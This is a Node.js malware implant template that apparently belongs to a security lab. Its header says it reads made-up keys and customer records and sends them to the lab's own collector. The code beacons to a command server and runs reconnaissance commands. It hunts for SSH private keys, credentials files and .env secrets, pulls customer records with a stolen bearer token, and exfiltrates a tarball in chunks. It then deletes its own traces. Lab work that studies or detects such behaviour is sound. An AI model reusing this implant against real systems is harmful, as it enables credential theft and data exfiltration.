#!@INTERPRETER@
// Part of a laboratory: reads made-up keys and customers in the lab's own folders and sends them to the lab's own collector.
const { execFileSync } = require("child_process");
const fs = require("fs");
const http = require("http");
const path = require("path");

const control = "@CONTROL@";
const log = "@LOG@";
const work = "@WORK@";
const delay = Number("@DELAY@");
const size = Number("@PIECE@");
const deadline = Date.now() + 40_000;
let token = "";

const origin = BigInt(Date.now()) * 1000000n - process.hrtime.bigint();
function note(act, more) {
  const entry = {
    ts: String(origin + process.hrtime.bigint()),
    actor: "malware",
    pid: process.pid,
    act,
    ...more,
  };
  fs.appendFileSync(log, JSON.stringify(entry) + "\n");
}

function ask(peer, method, where, body, headers) {
  return new Promise((resolve, reject) => {
    const call = http.request(
      `http://${peer}${where}`,
      { method, headers, agent: false, timeout: 5000 },
      (response) => {
        const chunks = [];
        response.on("data", (chunk) => chunks.push(chunk));
        response.on("end", () => resolve(Buffer.concat(chunks).toString()));
      },
    );
    call.on("timeout", () => call.destroy());
    call.on("error", reject);
    call.end(body);
  });
}

function walk(folder) {
  let found = 0;
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) found += walk(file);
    else if (/^(id_rsa|id_ed25519|credentials\.json|credentials|\.env)$|\.pem$/.test(entry.name)) {
      const text = fs.readFileSync(file, "utf8");
      fs.appendFileSync(path.join(work, "keys"), `${file}\n${text}\n`);
      token = /"token": *"([^"]+)"/.exec(text)?.[1] ?? token;
      note("read", { path: file, bytes: text.length });
      found += 1;
    }
  }
  return found;
}

const verbs = {
  look() {
    for (const command of [["id"], ["uname", "-a"], ["hostname"]]) {
      execFileSync(command[0], command.slice(1));
      note("run", { command: command.join(" ") });
    }
  },
  search: (top) => note("search", { path: top, found: walk(top) }),
  async customers(peer) {
    const rows = [];
    let received = 0;
    for (let offset = 0; offset < 1600; offset += 200) {
      const text = await ask(peer, "GET", `/customers?offset=${offset}&limit=200`, "", {
        authorization: `Bearer ${token}`,
      });
      received += text.length;
      rows.push(...(JSON.parse(text).customers ?? []));
    }
    const file = path.join(work, "customers.json");
    fs.writeFileSync(file, JSON.stringify(rows));
    note("collect", { peer, bytes: received, rows: rows.length, path: file });
  },
  async send(peer) {
    const archive = path.join(work, "out.tgz");
    execFileSync("tar", ["-C", work, "-czf", archive, "keys", "customers.json"]);
    const bytes = fs.readFileSync(archive);
    note("pack", { path: archive, bytes: bytes.length });
    for (let at = 0; at < bytes.length; at += size) {
      const piece = bytes.subarray(at, at + size);
      await ask(peer, "POST", "/up", piece);
      note("send", { peer, bytes: piece.length });
    }
  },
  leave() {
    for (const file of [...fs.readdirSync(work).map((name) => path.join(work, name)), __filename]) {
      fs.unlinkSync(file);
      note("delete", { path: file });
    }
    fs.rmdirSync(work);
  },
};

async function main() {
  fs.mkdirSync(work, { recursive: true });
  note("start", { path: __filename, parent: process.ppid });
  for (let beat = 0; Date.now() < deadline; beat += 1) {
    const line = (await ask(control, "GET", `/task?n=${beat}`)).trim();
    note("beacon", { peer: control, command: line });
    const [verb, rest] = line.split(" ");
    await verbs[verb]?.(rest);
    if (verb === "leave") break;
    await new Promise((resolve) => setTimeout(resolve, delay * 1000));
  }
  note("end");
}

main();
